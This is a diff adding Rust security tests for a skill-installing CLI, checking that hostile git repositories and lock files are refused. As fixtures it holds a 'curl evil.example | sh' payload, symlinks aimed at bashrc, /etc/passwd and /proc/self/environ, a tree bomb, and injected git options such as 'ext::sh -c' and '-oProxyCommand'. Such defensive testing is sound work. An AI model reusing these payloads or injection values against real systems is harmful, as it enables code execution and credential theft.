@@ -594,12 +594,24 @@ fn every_bad_input_is_refused_and_the_store_is_unchanged() {
         write(&d.join("secret.txt"), "secret\n");
         prompt_skill(&d.join("skills/leaky"), "leaky", "Leaks.");
         std::os::unix::fs::symlink("../../secret.txt", d.join("skills/leaky/secret")).unwrap();
-        std::os::unix::fs::symlink("/etc/hostname", d.join("skills/leaky/host")).unwrap();
     });
     refused(
         &store,
         &["install", "--git", &link, "leaky"],
         &["points outside the skill folder"],
+    );
+    // An absolute link is refused with the tree, before anything is written.
+    let absolute = bad("absolute", &|d| {
+        prompt_skill(&d.join("skills/leaky"), "leaky", "Leaks.");
+        std::os::unix::fs::symlink("/etc/hostname", d.join("skills/leaky/host")).unwrap();
+    });
+    refused(
+        &store,
+        &["install", "--git", &absolute, "leaky"],
+        &[
+            "the symlink `skills/leaky/host`",
+            "`/etc/hostname` is absolute",
+        ],
     );
     let lfs = bad("lfs", &|d| {
         write(
@@ -664,4 +676,654 @@ fn a_rust_skill_without_cargo_lock_keeps_the_resolved_one_and_sync_builds_with_i
         std::fs::read(a.join("skills.lock")).unwrap(),
         std::fs::read(b.join("skills.lock")).unwrap()
     );
+}
+
+// ---------------------------------------------------------------------------
+// Hostile repositories and lock files: each is refused with an error naming
+// the file and the rule, nothing outside is written or read, and the store
+// is unchanged.
+
+/// `git <args>` in `dir`, fed `input` on stdin.
+fn git_in(dir: &Path, args: &[&str], input: &[u8]) -> String {
+    use std::io::Write;
+    let mut child = Command::new("git")
+        .current_dir(dir)
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
+        .args(args)
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("run git");
+    child.stdin.take().unwrap().write_all(input).unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert!(
+        out.status.success(),
+        "git {args:?}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// An empty repository (no work tree files) whose objects the test builds
+/// with plumbing.
+fn plumbing_repo(parent: &Path, name: &str) -> PathBuf {
+    let repo = parent.join(name);
+    std::fs::create_dir_all(&repo).unwrap();
+    git(&repo, &["init", "-q", "-b", "main"]);
+    repo
+}
+
+fn blob(repo: &Path, bytes: &[u8]) -> String {
+    git_in(repo, &["hash-object", "-w", "--stdin"], bytes)
+}
+
+/// A tree object of `(mode, oid, name)` entries; names are bytes.
+fn mktree(repo: &Path, entries: &[(&str, &str, &[u8])]) -> String {
+    let mut input = Vec::new();
+    for (mode, oid, name) in entries {
+        let kind = match *mode {
+            "040000" => "tree",
+            "160000" => "commit",
+            _ => "blob",
+        };
+        input.extend_from_slice(format!("{mode} {kind} {oid}\t").as_bytes());
+        input.extend_from_slice(name);
+        input.push(0);
+    }
+    git_in(repo, &["mktree", "-z", "--missing"], &input)
+}
+
+/// Commits `tree` as `main`.
+fn commit_main(repo: &Path, tree: &str) -> String {
+    let commit = git(repo, &["commit-tree", tree, "-m", "hostile"]);
+    git(repo, &["update-ref", "refs/heads/main", &commit]);
+    commit
+}
+
+/// A valid prompt skill's folder (`skills/<name>/SKILL.md`) as tree objects;
+/// returns the `skills` tree.
+fn skills_tree(repo: &Path, name: &str) -> String {
+    let md = blob(
+        repo,
+        format!("---\nname: {name}\ndescription: The {name} skill.\n---\nBody.\n").as_bytes(),
+    );
+    let folder = mktree(repo, &[("100644", &md, b"SKILL.md")]);
+    mktree(repo, &[("040000", &folder, name.as_bytes())])
+}
+
+/// `boternity <args> --store <store>` with its own empty `TMPDIR` (where a
+/// checkout is written) and extra environment.
+fn cli_in(store: &Path, tmpdir: &Path, env: &[(&str, &str)], args: &[&str]) -> Output {
+    std::fs::create_dir_all(tmpdir).unwrap();
+    let mut cmd = boternity();
+    cmd.args(args)
+        .arg("--store")
+        .arg(store)
+        .env("TMPDIR", tmpdir)
+        .envs(env.iter().copied());
+    cmd.output().unwrap()
+}
+
+/// Everything below `dir`, links not followed: what a test compares to prove
+/// nothing was written.
+fn listing(dir: &Path) -> Vec<(PathBuf, String)> {
+    let mut out = Vec::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(entries) = std::fs::read_dir(&d) else {
+            continue;
+        };
+        for e in entries {
+            let e = e.unwrap();
+            let meta = std::fs::symlink_metadata(e.path()).unwrap();
+            let what = if meta.is_symlink() {
+                format!("link {}", std::fs::read_link(e.path()).unwrap().display())
+            } else if meta.is_dir() {
+                stack.push(e.path());
+                "dir".to_string()
+            } else {
+                use std::os::unix::fs::PermissionsExt;
+                format!(
+                    "file {:o} {}",
+                    meta.permissions().mode(),
+                    String::from_utf8_lossy(&std::fs::read(e.path()).unwrap())
+                )
+            };
+            out.push((e.path(), what));
+        }
+    }
+    out.sort();
+    out
+}
+
+/// Runs `args` against a hostile repository and checks it is refused with
+/// `expected` in the error, the store is unchanged and no checkout is left.
+fn refused_hostile(
+    tmp: &Path,
+    store: &Path,
+    args: &[&str],
+    env: &[(&str, &str)],
+    expected: &[&str],
+) -> String {
+    let before = snapshot(store);
+    let tmpdir = tmp.join("tmpdir");
+    let out = cli_in(store, &tmpdir, env, args);
+    let mut text = format!("{}\n{}", stdout(&out), stderr(&out));
+    // JSON messages: their errors as written, not escaped.
+    for line in stdout(&out).lines() {
+        if let Ok(json) = serde_json::from_str::<serde_json::Value>(line)
+            && let Some(error) = json["error"].as_str()
+        {
+            text.push_str(&format!("\n{error}"));
+        }
+    }
+    assert!(!out.status.success(), "{args:?} should fail:\n{text}");
+    for e in expected {
+        assert!(text.contains(e), "{args:?}: expected `{e}` in:\n{text}");
+    }
+    assert_eq!(snapshot(store), before, "{args:?} changed the store");
+    assert_eq!(
+        listing(&tmpdir),
+        Vec::new(),
+        "{args:?} left a checkout behind"
+    );
+    text
+}
+
+#[test]
+fn a_checkout_never_writes_through_a_link_whose_name_differs_only_in_non_utf8_bytes() {
+    let tmp = tempfile::tempdir().unwrap();
+    // What a hostile repository aims at: a ~/.bashrc, and a file to create.
+    let outside = tmp.path().join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    let bashrc = outside.join("bashrc");
+    std::fs::write(&bashrc, "# my shell\n").unwrap();
+    let created = outside.join("created-by-the-repository");
+    let before = listing(&outside);
+
+    let repo = plumbing_repo(tmp.path(), "lossy");
+    let payload = blob(&repo, b"curl evil.example | sh\n");
+    let to_bashrc = blob(&repo, bashrc.to_str().unwrap().as_bytes());
+    let to_created = blob(&repo, created.to_str().unwrap().as_bytes());
+    let skills = skills_tree(&repo, "decoy");
+    // `a\xff` and `a\xfe` are one name once decoded lossily: the link first,
+    // then the file (written, and chmod'ed, through it).
+    let root = mktree(
+        &repo,
+        &[
+            ("120000", &to_bashrc, b"a\xff"),
+            ("100755", &payload, b"a\xfe"),
+            ("120000", &to_created, b"b\xff"),
+            ("100644", &payload, b"b\xfe"),
+            ("040000", &skills, b"skills"),
+        ],
+    );
+    commit_main(&repo, &root);
+    let url = file_url(&repo);
+    let store = tmp.path().join("store");
+    for args in [
+        &["install", "--git", &url, "--list"][..],
+        &[
+            "install",
+            "--git",
+            &url,
+            "--list",
+            "--message-format",
+            "json",
+        ],
+        &["install", "--git", &url, "--all"],
+    ] {
+        refused_hostile(
+            tmp.path(),
+            &store,
+            args,
+            &[],
+            &["is unsafe", "the path `a\\xfe`", "not UTF-8"],
+        );
+        assert_eq!(
+            listing(&outside),
+            before,
+            "{args:?} wrote outside the checkout"
+        );
+    }
+    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# my shell\n");
+    assert!(!created.exists());
+
+    // The same names as one folder entry and one file entry, and a link that
+    // is also a folder: git's own checks or boternity's refuse them; nothing
+    // is written outside either way.
+    let repo = plumbing_repo(tmp.path(), "colliding");
+    let payload = blob(&repo, b"curl evil.example | sh\n");
+    let to_outside = blob(&repo, outside.to_str().unwrap().as_bytes());
+    let inner = mktree(&repo, &[("100755", &payload, b"bashrc")]);
+    let skills = skills_tree(&repo, "decoy");
+    let root = mktree(
+        &repo,
+        &[
+            ("120000", &to_outside, b"a"),
+            ("040000", &inner, b"a"),
+            ("040000", &skills, b"skills"),
+        ],
+    );
+    commit_main(&repo, &root);
+    refused_hostile(
+        tmp.path(),
+        &store,
+        &["install", "--git", &file_url(&repo), "--list"],
+        &[],
+        &[],
+    );
+    assert_eq!(listing(&outside), before);
+    assert!(!store.exists());
+}
+
+#[test]
+fn a_skill_md_linked_to_a_host_file_or_proc_environ_is_never_read() {
+    let tmp = tempfile::tempdir().unwrap();
+    let secret = "TOPSECRET-host-file-7f3a9c";
+    let env_secret = "TOPSECRET-environ-51e0b2";
+    let outside = tmp.path().join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    let host_file = outside.join("secret.txt");
+    std::fs::write(
+        &host_file,
+        format!("---\nname: leak\ndescription: {secret}\n---\n{secret}\n"),
+    )
+    .unwrap();
+    let env = [("BOTERNITY_TEST_CANARY", env_secret)];
+    let store = tmp.path().join("store");
+    let local = tmp.path().join("local/docx");
+    prompt_skill(&local, "docx", "A local docx.");
+    ok(cli(&store, &["install", local.to_str().unwrap()]));
+
+    let repo_with = |name: &str, link: &str| -> String {
+        let work = tmp.path().join(name);
+        prompt_skill(&work.join("skills/fine"), "fine", "A fine skill.");
+        let leak = work.join("skills/leak");
+        std::fs::create_dir_all(&leak).unwrap();
+        std::os::unix::fs::symlink(link, leak.join("SKILL.md")).unwrap();
+        write(
+            &leak.join("secret.md"),
+            &format!("---\nname: leak\ndescription: {secret}\n---\n"),
+        );
+        git(&work, &["init", "-q", "-b", "main"]);
+        git(&work, &["add", "-A"]);
+        git(&work, &["commit", "-q", "-m", "leak"]);
+        file_url(&work)
+    };
+    let cases = [
+        (
+            "host-file",
+            host_file.to_str().unwrap().to_string(),
+            "is absolute",
+        ),
+        ("environ", "/proc/self/environ".to_string(), "is absolute"),
+        (
+            "environ-relative",
+            "../../../../../../../../../../../../proc/self/environ".to_string(),
+            "leads out of the repository",
+        ),
+    ];
+    for (name, link, rule) in &cases {
+        let url = repo_with(name, link);
+        for args in [
+            &[
+                "install",
+                "--git",
+                &url,
+                "--list",
+                "--message-format",
+                "json",
+            ][..],
+            &["install", "--git", &url, "--list"],
+            &["install", "--git", &url, "leak"],
+        ] {
+            let text = refused_hostile(
+                tmp.path(),
+                &store,
+                args,
+                &env,
+                &["the symlink `skills/leak/SKILL.md`", rule],
+            );
+            assert!(
+                !text.contains(secret) && !text.contains(env_secret),
+                "{name}: leaked:\n{text}"
+            );
+        }
+    }
+
+    // A link that stays inside the skill folder: the tree is fine, but
+    // SKILL.md must be a regular file, so it is listed with the rule as its
+    // error and never installed; the other skill still is.
+    let url = repo_with("inside", "secret.md");
+    let rule = "SKILL.md is a symlink; it must be a regular file inside the skill folder";
+    let tmpdir = tmp.path().join("tmpdir");
+    let out = cli_in(
+        &store,
+        &tmpdir,
+        &env,
+        &[
+            "install",
+            "--git",
+            &url,
+            "--list",
+            "--message-format",
+            "json",
+        ],
+    );
+    let text = format!("{}\n{}", stdout(&out), stderr(&out));
+    assert!(out.status.success(), "{text}");
+    assert!(
+        !text.contains(secret) && !text.contains(env_secret),
+        "leaked:\n{text}"
+    );
+    let lines = json_lines(&out);
+    let leak = lines
+        .iter()
+        .find(|l| l["path"] == "skills/leak")
+        .expect("listed");
+    assert!(
+        leak["manifest_error"]
+            .as_str()
+            .unwrap_or_default()
+            .contains(rule),
+        "{leak}"
+    );
+    assert!(
+        lines
+            .iter()
+            .any(|l| l["name"] == "fine" && l["manifest_error"].is_null())
+    );
+    let text = refused_hostile(
+        tmp.path(),
+        &store,
+        &["install", "--git", &url, "leak"],
+        &env,
+        &[rule],
+    );
+    assert!(
+        !text.contains(secret) && !text.contains(env_secret),
+        "leaked:\n{text}"
+    );
+    ok(cli(&store, &["install", "--git", &url, "fine"]));
+    assert!(
+        !std::fs::read_to_string(store.join("skills/fine/SKILL.md"))
+            .unwrap()
+            .contains(secret)
+    );
+    assert!(!store.join("skills/leak").exists());
+}
+
+#[test]
+fn a_tree_bomb_is_refused_in_well_under_a_second_and_nothing_is_written() {
+    let tmp = tempfile::tempdir().unwrap();
+    let repo = plumbing_repo(tmp.path(), "bomb");
+    let payload = blob(&repo, b"x\n");
+    let names: Vec<Vec<u8>> = (0..10).map(|i| format!("d{i}").into_bytes()).collect();
+    // Two files, then five levels of ten folders that are all the same
+    // tree: a few hundred bytes of objects, 200,000 files once expanded.
+    let mut tree = mktree(
+        &repo,
+        &[("100644", &payload, b"f0"), ("100644", &payload, b"f1")],
+    );
+    for _ in 0..5 {
+        let entries: Vec<(&str, &str, &[u8])> = names
+            .iter()
+            .map(|n| ("040000", tree.as_str(), n.as_slice()))
+            .collect();
+        tree = mktree(&repo, &entries);
+    }
+    let skills = skills_tree(&repo, "decoy");
+    let root = mktree(
+        &repo,
+        &[("040000", &tree, b"bomb"), ("040000", &skills, b"skills")],
+    );
+    commit_main(&repo, &root);
+    let objects: u64 = std::fs::read_dir(repo.join(".git/objects"))
+        .unwrap()
+        .flatten()
+        .flat_map(|d| std::fs::read_dir(d.path()).into_iter().flatten().flatten())
+        .map(|f| f.metadata().unwrap().len())
+        .sum();
+    assert!(
+        objects < 32 * 1024,
+        "the bomb is {objects} bytes of objects"
+    );
+
+    let url = file_url(&repo);
+    let store = tmp.path().join("store");
+    for args in [
+        &["install", "--git", &url, "--list"][..],
+        &["install", "--git", &url, "--all"],
+    ] {
+        let started = Instant::now();
+        let text = refused_hostile(
+            tmp.path(),
+            &store,
+            args,
+            &[],
+            &[
+                "the tree in",
+                "is unsafe",
+                "entries",
+                "over the cap of 50000",
+            ],
+        );
+        let took = started.elapsed();
+        assert!(
+            took < Duration::from_secs(5),
+            "{args:?} took {took:?}:\n{text}"
+        );
+        // The count it would expand to: 200,000 files and 111,110 folders
+        // below `bomb`, `bomb` itself, and the decoy's three entries.
+        assert!(text.contains("it holds 311114 entries"), "{text}");
+    }
+}
+
+#[test]
+fn a_symlink_that_is_absolute_or_leaves_the_repository_is_refused_before_anything_is_written() {
+    let tmp = tempfile::tempdir().unwrap();
+    let outside = tmp.path().join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    std::fs::write(outside.join("keep"), "kept\n").unwrap();
+    let before = listing(&outside);
+    let store = tmp.path().join("store");
+    let cases: [(&str, &str, String, &str); 4] = [
+        (
+            "absolute-dir",
+            "skills/x/data",
+            outside.display().to_string(),
+            "is absolute",
+        ),
+        (
+            "absolute-file",
+            "notes",
+            "/etc/passwd".into(),
+            "is absolute",
+        ),
+        (
+            "escaping",
+            "skills/x/up",
+            "../../../outside".into(),
+            "leads out of the repository",
+        ),
+        (
+            "escaping-root",
+            "up",
+            "..".into(),
+            "leads out of the repository",
+        ),
+    ];
+    for (name, link, target, rule) in &cases {
+        let work = tmp.path().join(name);
+        prompt_skill(&work.join("skills/x"), "x", "A skill.");
+        let at = work.join(link);
+        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
+        std::os::unix::fs::symlink(target, &at).unwrap();
+        git(&work, &["init", "-q", "-b", "main"]);
+        git(&work, &["add", "-A"]);
+        git(&work, &["commit", "-q", "-m", "link"]);
+        let url = file_url(&work);
+        for args in [
+            &["install", "--git", &url, "--list"][..],
+            &["install", "--git", &url, "x"],
+        ] {
+            refused_hostile(
+                tmp.path(),
+                &store,
+                args,
+                &[],
+                &[
+                    &format!("the symlink `{link}`"),
+                    &format!("`{target}`"),
+                    rule,
+                ],
+            );
+        }
+        assert_eq!(listing(&outside), before);
+    }
+    assert!(!store.exists());
+
+    // Links that stay inside still work: within a skill folder (installed
+    // as the file they point to), and between folders of the repository.
+    let work = tmp.path().join("fine");
+    prompt_skill(&work.join("skills/x"), "x", "A skill.");
+    write(
+        &work.join("skills/x/scripts/run.sh"),
+        "#!/bin/sh\necho run\n",
+    );
+    std::os::unix::fs::symlink("scripts/run.sh", work.join("skills/x/run")).unwrap();
+    std::os::unix::fs::symlink("skills/x", work.join("x-alias")).unwrap();
+    git(&work, &["init", "-q", "-b", "main"]);
+    git(&work, &["add", "-A"]);
+    git(&work, &["commit", "-q", "-m", "fine"]);
+    ok(cli(&store, &["install", "--git", &file_url(&work), "x"]));
+    assert_eq!(
+        std::fs::read_to_string(store.join("skills/x/run")).unwrap(),
+        "#!/bin/sh\necho run\n"
+    );
+}
+
+#[test]
+fn a_hostile_skills_lock_is_refused_before_git_runs_and_the_store_is_unchanged() {
+    let tmp = tempfile::tempdir().unwrap();
+    // Prompt skills only: nothing here needs a build.
+    let work = tmp.path().join("work");
+    prompt_skill(&work.join("skills/docx"), "docx", "Write Word files.");
+    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs.");
+    git(&work, &["init", "-q", "-b", "main"]);
+    git(&work, &["add", "-A"]);
+    git(&work, &["commit", "-q", "-m", "one"]);
+    let url = file_url(&work);
+    let a = tmp.path().join("a");
+    ok(cli(&a, &["install", "--git", &url, "docx"]));
+    let lock = std::fs::read_to_string(a.join("skills.lock")).unwrap();
+    let commit = git(&work, &["rev-parse", "HEAD"]);
+    assert!(lock.contains(&format!("url = \"{url}\"")), "{lock}");
+    assert!(lock.contains(&format!("commit = \"{commit}\"")), "{lock}");
+
+    // A store with something in it, so "unchanged" means something.
+    let b = tmp.path().join("b");
+    let local = tmp.path().join("local/pdf");
+    prompt_skill(&local, "pdf", "A local pdf.");
+    ok(cli(&b, &["install", local.to_str().unwrap()]));
+
+    let marker = tmp.path().join("pwned");
+    let m = marker.display().to_string();
+    let cases: Vec<(&str, String, String, &str)> = vec![
+        (
+            "ext",
+            format!("url = \"{url}\""),
+            format!("url = \"ext::sh -c touch% {m}\""),
+            "`ext::` runs a remote helper",
+        ),
+        (
+            "upload-pack",
+            format!("url = \"{url}\""),
+            format!("url = \"--upload-pack=touch {m}\""),
+            "starts with `-`",
+        ),
+        (
+            "ssh-option",
+            format!("url = \"{url}\""),
+            format!("url = \"ssh://-oProxyCommand=touch {m}/r\""),
+            "its host starts with `-`",
+        ),
+        (
+            "head",
+            format!("commit = \"{commit}\""),
+            "commit = \"HEAD\"".into(),
+            "`HEAD` is not a full commit id",
+        ),
+        (
+            "option",
+            format!("commit = \"{commit}\""),
+            format!("commit = \"--output={m}\""),
+            "is not a full commit id",
+        ),
+        (
+            "short",
+            format!("commit = \"{commit}\""),
+            "commit = \"0f1e2d\"".into(),
+            "`0f1e2d` is not a full commit id",
+        ),
+        (
+            "dotdot",
+            "path = \"skills/docx\"".into(),
+            "path = \"../../../etc\"".into(),
+            "leads outside the repository",
+        ),
+        (
+            "ref",
+            "[skills.docx]".into(),
+            "[skills.docx]\nref = \"--upload-pack=x\"".into(),
+            "is not a ref boternity records",
+        ),
+    ];
+    for (name, from, to, rule) in &cases {
+        assert!(
+            lock.contains(from.as_str()),
+            "{name}: `{from}` not in the lock"
+        );
+        let hostile = tmp.path().join(format!("{name}.lock"));
+        std::fs::write(&hostile, lock.replacen(from.as_str(), to, 1)).unwrap();
+        refused(
+            &b,
+            &["sync", "--lock", hostile.to_str().unwrap()],
+            &[
+                &format!("{name}.lock: the entry of `docx` is refused"),
+                rule,
+            ],
+        );
+        assert!(!marker.exists(), "{name}: the lock ran a command");
+    }
+
+    // The same checks hold for a provenance record that `outdated` and
+    // `update` read: an edited URL is refused, nothing is run.
+    let record = a.join("skills/docx/.boternity-provenance.json");
+    let mut json: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&record).unwrap()).unwrap();
+    json["origin"]["url"] = format!("ext::sh -c touch% {m}").into();
+    std::fs::write(&record, serde_json::to_vec_pretty(&json).unwrap()).unwrap();
+    let out = ok(cli(&a, &["outdated", "--message-format", "json"]));
+    let line = &json_lines(&out)[0];
+    assert_eq!(line["status"], "unknown", "{line}");
+    assert!(
+        line["error"]
+            .as_str()
+            .unwrap()
+            .contains("runs a remote helper"),
+        "{line}"
+    );
+    let before = snapshot(&a.join("skills"));
+    let out = cli(&a, &["update", "docx"]);
+    assert!(!out.status.success());
+    assert!(
+        stderr(&out).contains("runs a remote helper"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(snapshot(&a.join("skills")), before);
+    assert!(!marker.exists(), "a provenance record ran a command");
 }
